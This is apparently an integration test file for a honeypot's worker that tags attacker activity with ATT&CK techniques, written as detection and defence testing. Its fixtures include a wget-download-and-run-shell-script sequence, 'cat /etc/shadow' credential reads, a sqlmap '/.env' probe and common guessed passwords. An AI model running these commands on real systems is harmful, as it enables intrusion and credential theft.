// The ttp worker on the in-memory bus against real Postgres: tags land once per source and are
// announced only when inserted; log events become command/HTTP/auth sources; tags wait for their
// attacker instead of being dropped; malformed events and rule files are counted and skipped.
import { copyFileSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { EVENTS, MemoryBroker, type Bus } from '@decnet/core';
import { eventually } from '@decnet/core/testing';
import { attacker_identities, attacker_intel, attackers, credentials, getState, state, ttp_rule_state, ttp_tag, type Database } from '@decnet/db';
import { countRows, insertRows, migratedScratchDatabase, tableRows, truncateTables, updateRows, type TableColumn } from '@decnet/db/testing';
import type { ScratchDatabase } from '@decnet/testing/postgres';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { commandSourceId } from './jobs.js';
import { hostTtp, logEvent, UPSTREAM_RULES_DIR, type HostedTtp } from './test-kit.fixture.js';
import { PENDING_STATE_KEY } from './worker.js';

let scratch: ScratchDatabase;
let database: Database;
let broker: MemoryBroker;
let hosted: HostedTtp | undefined;

const ATTACKER = '11111111-1111-4111-8111-111111111111';
const OTHER = '22222222-2222-4222-8222-222222222222';
const IP = '198.51.100.7';

beforeAll(async () => {
  ({ scratch, database } = await migratedScratchDatabase());
});
afterAll(async () => {
  await database.close();
  await scratch.drop();
});
beforeEach(async () => {
  await hosted?.runner.close();
  hosted = undefined;
  broker = new MemoryBroker();
  await truncateTables(database, [ttp_tag, ttp_rule_state, attacker_intel, state, attackers, attacker_identities]);
  await insertRows(database, attackers, [{ uuid: ATTACKER, ip: IP }]);
});

/** Every stored tag, in `orderBy` order. */
const tags = (orderBy: readonly TableColumn[] = []) => tableRows(database, ttp_tag, { orderBy });
const count = (match?: Partial<typeof ttp_tag.$inferSelect>): Promise<number> => countRows(database, ttp_tag, match);
const start = async (over = {}): Promise<{ bus: Bus; ttp: HostedTtp }> => {
  hosted = await hostTtp(broker, scratch.url, over);
  return { bus: broker.connect('producer'), ttp: hosted };
};

const session = (commands: string[], over: Record<string, unknown> = {}) => ({
  session_id: 'sess-1',
  attacker_uuid: null,
  attacker_ip: IP,
  decky_id: 'decky-01',
  service: 'ssh',
  ended_at: '2026-05-02T06:01:00.000Z',
  duration_s: 60,
  commands: commands.map((c, i) => ({ id: `sess-1#${i}`, command_text: c, ts: `2026-05-02T06:00:${String(10 + i).padStart(2, '0')}.000Z`, decky: 'decky-01', service: 'ssh', user: 'root' })),
  shard_path: null,
  ...over,
});

describe('session commands become tags once, announced only when inserted', () => {
  it('tags a download-and-execute session with T1105 and T1059, and replays insert nothing', async () => {
    const { bus, ttp } = await start();
    const payload = session(['cd /tmp', 'wget http://203.0.113.9/x.sh -O /tmp/x.sh', '/bin/sh -c /tmp/x.sh']);
    await bus.publish(EVENTS.attackerSessionEnded.subject, payload);
    await eventually(async () => (await count()) === 3, 10_000);
    const rows = await tags([ttp_tag.rule_id]);
    expect(rows.map((r) => `${r.rule_id}:${r.sub_technique_id ?? r.technique_id}`)).toEqual(['R0010:T1059.004', 'R0011:T1059', 'R0012:T1105']);
    expect(rows.every((r) => r.attacker_uuid === ATTACKER && r.session_id === 'sess-1' && r.attack_release === 'v15.1' && r.source_kind === 'command')).toBe(true);
    const tagged = await ttp.tagged.waitFor(2);
    expect(tagged.map((e) => e.payload)).toEqual([
      expect.objectContaining({ attacker_uuid: ATTACKER, session_id: 'sess-1', techniques_added: ['T1105'] }),
      expect.objectContaining({ attacker_uuid: ATTACKER, session_id: 'sess-1', techniques_added: ['T1059'] }),
    ]);
    const fired = await ttp.fired.waitFor(2);
    expect(fired.map((e) => e.topic).sort()).toEqual([EVENTS.ttpRuleFired.subject('T1059'), EVENTS.ttpRuleFired.subject('T1105')]);
    expect(fired.find((e) => e.topic.endsWith('T1059'))?.payload.tag_uuids).toHaveLength(2);

    const published = ttp.tagged.events.length + ttp.fired.events.length;
    await bus.publish(EVENTS.attackerSessionEnded.subject, payload);
    await eventually(async () => ((await ttp.health()).events as number) >= 2, 10_000);
    expect(await count()).toBe(3);
    expect(ttp.tagged.events.length + ttp.fired.events.length).toBe(published);
    expect((await ttp.health()).duplicates).toBe(3);
  });

  it('tags a command seen live on log.event.* once, even when the session replays it', async () => {
    const { bus, ttp } = await start();
    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', time: '2026-05-02T06:00:10.000Z', fields: { cmd: 'cat /etc/shadow', user: 'root', sid: 'sess-1' } }));
    await eventually(async () => (await count()) === 1, 10_000);
    await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/shadow']));
    await eventually(async () => ((await ttp.health()).events as number) >= 2, 10_000);
    expect(await count()).toBe(1);
    const [row] = await tags();
    expect(row?.source_id).toBe(commandSourceId(IP, 'decky-01', 'ssh', '2026-05-02T06:00:10.000Z', 'cat /etc/shadow'));
    expect(row?.evidence).toMatchObject({ command_text: 'cat /etc/shadow', user: 'root' });
  });
});

describe('log events fill upstream\'s producer gap for HTTP requests and auth attempts', () => {
  it('tags scanner user agents and credential-file requests, folding an attacker\'s requests per window', async () => {
    const { bus } = await start();
    for (let i = 0; i < 5; i++) {
      await bus.publish(EVENTS.logEvent.subject('http'), logEvent({ service: 'http', event_type: 'request', fields: { method: 'GET', path: `/.env?i=${i}`, user_agent: 'sqlmap/1.7.2#stable (https://sqlmap.org)' } }));
    }
    await eventually(async () => (await count()) === 3, 10_000);
    expect((await tags([ttp_tag.rule_id, ttp_tag.technique_id])).map((r) => `${r.source_kind}:${r.rule_id}`)).toEqual([
      'http_request:R0007',
      'http_request:R0007',
      'http_request:R0036',
    ]);
  });

  it('counts failed logins per attacker: brute force, password guessing, default pair, then valid-account use', async () => {
    const { bus } = await start();
    const auth = (password: string, outcome: string, s: number) =>
      logEvent({ event_type: 'auth_attempt', time: `2026-05-02T06:00:${String(s).padStart(2, '0')}.000Z`, fields: { username: 'root', principal: 'root', secret_printable: password, secret_b64: Buffer.from(password).toString('base64'), outcome } });
    for (const [i, pw] of ['123456', 'password', 'admin', 'toor', 'qwerty'].entries()) await bus.publish(EVENTS.logEvent.subject('ssh'), auth(pw, 'failure', i));
    await bus.publish(EVENTS.logEvent.subject('ssh'), auth('root', 'success', 10));
    await eventually(async () => (await count()) === 4, 10_000);
    const rows = (await tags([ttp_tag.rule_id])).map((r) => ({ rule_id: r.rule_id, evidence: r.evidence as Record<string, unknown> }));
    expect(rows.map((r) => r.rule_id)).toEqual(['R0001', 'R0002', 'R0005', 'R0006']);
    expect(rows[0]?.evidence).toEqual({ fail_count: 5, service: 'ssh' });
    expect(JSON.stringify(rows)).not.toContain('qwerty');
  });
});

describe('tags wait for their attacker instead of being dropped', () => {
  it('writes the tags once the profiler creates the attacker, woken by attacker.scored', async () => {
    const { bus, ttp } = await start({ pendingRetryMs: 60_000 });
    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: '203.0.113.50', fields: { cmd: 'uname -a' } }));
    await eventually(async () => ((await ttp.health()).pending as number) === 1, 10_000);
    expect(await count()).toBe(0);
    await insertRows(database, attackers, [{ uuid: OTHER, ip: '203.0.113.50' }]);
    await bus.publish(EVENTS.attackerScored.subject, { attacker_ip: '203.0.113.50', event_count: 1 });
    await eventually(async () => (await count({ attacker_uuid: OTHER })) === 1, 10_000);
    await eventually(async () => {
      const detail = await ttp.health();
      return detail.pending === 0 && detail.resolvedLater === 1;
    }, 10_000);
  });

  it('announces a tag once when the live command and its session replay wait and are written together', async () => {
    const { bus, ttp } = await start({ pendingRetryMs: 60_000 });
    const ip = '203.0.113.52';
    const cmd = 'wget http://203.0.113.9/x.sh -O /tmp/x.sh';
    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: ip, time: '2026-05-02T06:00:10.000Z', fields: { cmd, user: 'root', sid: 'sess-1' } }));
    await bus.publish(EVENTS.attackerSessionEnded.subject, session([cmd], { attacker_ip: ip }));
    // Both sources derive the same tag; both wait for the attacker, then go out in one write.
    await eventually(async () => ((await ttp.health()).pending as number) === 2, 10_000);
    await insertRows(database, attackers, [{ uuid: OTHER, ip }]);
    await bus.publish(EVENTS.attackerScored.subject, { attacker_ip: ip, event_count: 2 });
    await eventually(async () => {
      const detail = await ttp.health();
      return detail.pending === 0 && detail.inserted === 1 && detail.published === 2;
    }, 10_000);
    expect(await count({ attacker_uuid: OTHER })).toBe(1);
    expect(ttp.tagged.events.map((e) => e.payload.techniques_added)).toEqual([['T1105']]);
    expect(ttp.fired.events.map((e) => e.topic)).toEqual([EVENTS.ttpRuleFired.subject('T1105')]);
  });

  it('keeps retrying waiting tags on its timer after an idle retry found nothing', async () => {
    const { bus, ttp } = await start({ pendingRetryMs: 100 });
    // Several retry ticks pass with nothing pending before the tag has to wait.
    await new Promise((r) => setTimeout(r, 500));
    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: '203.0.113.53', fields: { cmd: 'cat /etc/shadow' } }));
    await eventually(async () => ((await ttp.health()).pending as number) === 1, 10_000);
    // The attacker appears without any wake-up event: only the timer can pick the tag up.
    await insertRows(database, attackers, [{ uuid: OTHER, ip: '203.0.113.53' }]);
    await eventually(async () => (await count({ attacker_uuid: OTHER })) === 1, 10_000);
  });

  it('keeps waiting tags across a graceful restart', async () => {
    const first = await start({ pendingRetryMs: 60_000 });
    await first.bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', attacker_ip: '203.0.113.51', fields: { cmd: 'whoami' } }));
    await eventually(async () => ((await first.ttp.health()).pending as number) === 1, 10_000);
    await first.ttp.runner.close();
    hosted = undefined;
    expect(await getState(database.db, PENDING_STATE_KEY)).toHaveLength(1);
    await insertRows(database, attackers, [{ uuid: OTHER, ip: '203.0.113.51' }]);
    broker = new MemoryBroker();
    await start({ pendingRetryMs: 100 });
    await eventually(async () => (await count({ attacker_uuid: OTHER })) === 1, 10_000);
    expect(await getState(database.db, PENDING_STATE_KEY)).toEqual([]);
  });
});

describe('every upstream input is consumed', () => {
  it('tags intel, e-mail, canary, identity, credential reuse and IPv6 leaks, with the data file\'s ATT&CK release', async () => {
    await insertRows(database, attacker_identities, [{ uuid: '33333333-3333-4333-8333-333333333333' }]);
    const { bus } = await start();
    await bus.publish(EVENTS.attackerIntelEnriched.subject, { attacker_uuid: ATTACKER, attacker_ip: IP, abuseipdb_score: 95, abuseipdb_categories: [18, 22] });
    await bus.publish(EVENTS.emailReceived.subject, { attacker_uuid: ATTACKER, attacker_ip: IP, stored_as: 'm1.eml', from_domain: 'ceo.example', mail_from_domain: 'evil.example', rcpt_count: 12 });
    await bus.publish(EVENTS.canaryTriggered.subject('tok1'), { token_id: 'tok1', trigger_id: 'trg1', src_ip: IP, navigator_webdriver: true });
    await bus.publish(EVENTS.identityFormed.subject, { identity_uuid: '33333333-3333-4333-8333-333333333333', shared_password_hash: 'ab12', account_count: 4 });
    await bus.publish(EVENTS.credentialReuseDetected.subject, { id: 'reuse-1', secret_sha256: 'ab12', target_count: 3, attacker_uuids: [ATTACKER], attacker_ips: [IP] });
    await bus.publish(EVENTS.attackerFingerprinted.subject, { attacker_ip: IP, addr: 'fe80::a00:27ff:fe4e:66a1', iid_kind: 'eui64', mac_oui: '08:00:27' }, { type: 'ipv6_leak' });
    const expected = ['credential:R0004', 'email:R0041', 'email:R0041', 'email:R0045', 'identity:R0003', 'intel:R0054', 'ipv6_leak:R0059', 'canary_fingerprint:R0049'].sort();
    await eventually(async () => (await count()) === expected.length, 10_000);
    const rows = await tags();
    expect(rows.map((r) => `${r.source_kind}:${r.rule_id}`).sort()).toEqual(expected);
    expect(new Set(rows.map((r) => r.attack_release))).toEqual(new Set(['v15.1']));
    expect(rows.find((r) => r.rule_id === 'R0003')).toMatchObject({ attacker_uuid: null, identity_uuid: '33333333-3333-4333-8333-333333333333' });
    const leakOf = async () =>
      (await tableRows(database, attackers, { match: { uuid: ATTACKER } })).map((a) => ({
        ipv6_leak_count: a.ipv6_leak_count,
        last_ipv6_link_local: a.last_ipv6_link_local,
      }))[0];
    // The attacker row is updated after its R0059 tag is written, not in the same statement.
    await eventually(async () => (await leakOf())?.ipv6_leak_count !== 0, 10_000);
    expect(await leakOf()).toEqual({ ipv6_leak_count: 1, last_ipv6_link_local: 'fe80::a00:27ff:fe4e:66a1' });
  });

  it('re-tags the stored intel when a session ends (upstream\'s catch-up)', async () => {
    await insertRows(database, attacker_intel, [
      { uuid: 'i1', attacker_uuid: ATTACKER, attacker_ip: IP, feodo_listed: true, feodo_malware_family: 'Emotet', expires_at: new Date(Date.now() + 86_400_000) },
    ]);
    const { bus } = await start();
    await bus.publish(EVENTS.attackerSessionEnded.subject, session([]));
    await eventually(async () => (await count({ source_id: 'intel-catchup:sess-1' })) === 2, 10_000);
  });

  it('finds password spraying for a new identity in the credentials of its attackers (upstream\'s R0003 never fired)', async () => {
    const identity = '44444444-4444-4444-8444-444444444444';
    await insertRows(database, attacker_identities, [{ uuid: identity }]);
    await updateRows(database, attackers, { identity_id: identity }, { uuid: ATTACKER });
    for (const user of ['root', 'admin', 'oracle']) {
      await insertRows(database, credentials, [{ attacker_ip: IP, decky_name: 'decky-01', service: 'ssh', principal: user, principal_key: user, secret_sha256: 'aa11' }]);
    }
    const { bus } = await start();
    await bus.publish(EVENTS.identityFormed.subject, { identity_uuid: identity, observation_uuids: [] });
    await eventually(async () => (await count({ rule_id: 'R0003' })) === 1, 10_000);
    const [row] = (await tableRows(database, ttp_tag, { match: { rule_id: 'R0003' } })).map((t) => ({ evidence: t.evidence, attacker_uuid: t.attacker_uuid }));
    expect(row).toEqual({ evidence: { shared_password_hash: 'aa11', account_count: 3 }, attacker_uuid: null });
  });

  it('honours operator rule states: a disabled rule never fires', async () => {
    await insertRows(database, ttp_rule_state, [{ rule_id: 'R0014', state: 'disabled', set_by: 'test' }]);
    const { bus, ttp } = await start();
    await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/shadow', 'cat /etc/passwd']));
    await eventually(async () => (await count()) === 1, 10_000);
    await eventually(async () => ((await ttp.health()).events as number) >= 1, 10_000);
    expect((await tags())[0]?.rule_id).toBe('R0013');
  });
});

describe('bad input is counted and skipped, never fatal', () => {
  it('skips malformed events and keeps tagging', async () => {
    const { bus, ttp } = await start();
    await bus.publish(EVENTS.attackerSessionEnded.subject, { session_id: 'x' });
    await bus.publish(EVENTS.logEvent.subject('ssh'), { decky: 'd', service: 'ssh' });
    await bus.publish(EVENTS.credentialReuseDetected.subject, { id: 'r', attacker_uuids: 'nope' });
    await bus.publish(EVENTS.identityMerged.subject, { winner_uuid: 'not-a-uuid' });
    await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/passwd']));
    await eventually(async () => (await count()) === 1, 10_000);
    await eventually(async () => ((await ttp.health()).malformed as number) === 4, 10_000);
    expect(ttp.runner.state).toBe('running');
  });

  it('stores attacker text Postgres cannot hold (NUL, lone surrogates) with replacement characters', async () => {
    const { bus } = await start();
    await bus.publish(EVENTS.logEvent.subject('ssh'), logEvent({ event_type: 'command', fields: { cmd: 'cat /etc/passwd \u0000\ud800', sid: 'x\u0000' } }));
    await eventually(async () => (await count()) === 1, 10_000);
    const [row] = (await tags()).map((t) => ({ evidence: t.evidence as { command_text: string }, session_id: t.session_id }));
    expect(row?.evidence.command_text).toBe('cat /etc/passwd \uFFFD\uFFFD');
    expect(row?.session_id).toBe('x\uFFFD');
  });

  it('rejects a malformed rule file, reports it, and tags with the others; a fixed file is picked up', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'ttp-worker-rules-'));
    try {
      for (const f of readdirSync(UPSTREAM_RULES_DIR)) copyFileSync(join(UPSTREAM_RULES_DIR, f), join(dir, f));
      writeFileSync(join(dir, 'R0013.yaml'), 'rule_id: R0013\nrule_version: 1\nname: broken\napplies_to: [command]\nmatch:\n  pattern: "(a+)+$"\nemits: []\n');
      const { bus, ttp } = await start({ rulesDir: dir });
      expect(await ttp.health()).toMatchObject({ rules: 58, rulesRejected: 1 });
      await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/shadow', 'cat /etc/passwd']));
      await eventually(async () => (await count()) === 1, 10_000);
      copyFileSync(join(UPSTREAM_RULES_DIR, 'R0013.yaml'), join(dir, 'R0013.yaml'));
      await eventually(async () => ((await ttp.health()).rules as number) === 59, 10_000);
      await bus.publish(EVENTS.attackerSessionEnded.subject, session(['cat /etc/passwd'], { session_id: 'sess-2' }));
      await eventually(async () => (await count({ rule_id: 'R0013' })) === 1, 10_000);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('runs with no rules while the rule directory is missing', async () => {
    const { ttp } = await start({ rulesDir: join(tmpdir(), 'no-such-ttp-rules') });
    expect(await ttp.health()).toMatchObject({ rules: 0, rulesError: expect.stringMatching(/cannot read the rule directory/) });
    expect(ttp.runner.state).toBe('running');
  });
});
